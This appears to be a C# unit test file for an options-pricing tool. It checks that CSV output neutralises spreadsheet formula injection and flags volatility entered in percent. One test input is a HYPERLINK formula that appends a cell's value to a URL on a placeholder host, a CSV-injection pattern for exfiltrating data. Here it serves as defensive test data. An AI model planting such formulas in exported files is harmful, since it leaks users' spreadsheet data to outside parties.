using HedgeFast.Core.Book.Files;

namespace HedgeFast.Tests.Program.Commands;

/// <summary>Values for spreadsheets: what they would calculate, and what they write wrongly.</summary>
public sealed class SpreadsheetTests : IDisposable
{
    private const string Market = "U,,2024-08-08T00:00:00Z,100,,,";

    private readonly PriceRig _rig = new();

    public void Dispose() => _rig.Dispose();

    [Theory]
    [InlineData("\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",")]
    [InlineData("=1+1", "'=1+1,")]
    [InlineData("@SUM(A1)", "'@SUM(A1),")]
    [InlineData("+A1", "'+A1,")]
    [InlineData("-A1", "'-A1,")]
    [InlineData("'=1+1", "'=1+1,")]
    public void S31_A_symbol_is_never_written_as_a_formula(string symbol, string written)
    {
        Assert.Equal(0, _rig.Price([Row(symbol, "0.5")], [Market]));
        string line = _rig.Output.Split('\n')[1];
        Assert.StartsWith(written, line, StringComparison.Ordinal);

        // Numbers stay numbers, negative ones too.
        Assert.Contains(",-", line[written.Length..], StringComparison.Ordinal);
    }

    [Fact]
    public void S31_What_was_written_is_the_same_symbol_when_it_is_read_again()
    {
        Assert.Equal(0, _rig.Price([Row("=1+1", "0.5")], [Market]));
        string written = _rig.Output.Split('\n')[1].Split(',')[0];
        var again = new StringReader(string.Join(',', BookCsv.Columns) + "\n" + Row(written, "0.5"));
        Assert.Equal("=1+1", Assert.Single(BookCsv.Read(again, "again").Rows).Symbol);
    }

    [Fact]
    public void A_volatility_in_percent_is_asked_about()
    {
        Assert.Equal(0, _rig.Price([Row("A", "14.08"), Row("B", "0.5")], [Market]));
        string note = Assert.Single(_rig.Errors);
        Assert.Contains("1 options have an iv above 5, A for one with 14.08,", note, StringComparison.Ordinal);
        Assert.Contains("that is 1408 % a year", note, StringComparison.Ordinal);
        Assert.Equal(0, _rig.Price([Row("A", "5")], [Market]));
        Assert.Empty(_rig.Errors);
    }

    private static string Row(string symbol, string iv) =>
        $"{symbol},U,call,100,2024-08-30T08:00:00.000000000Z,linear,black76,1,1,{iv}";
}
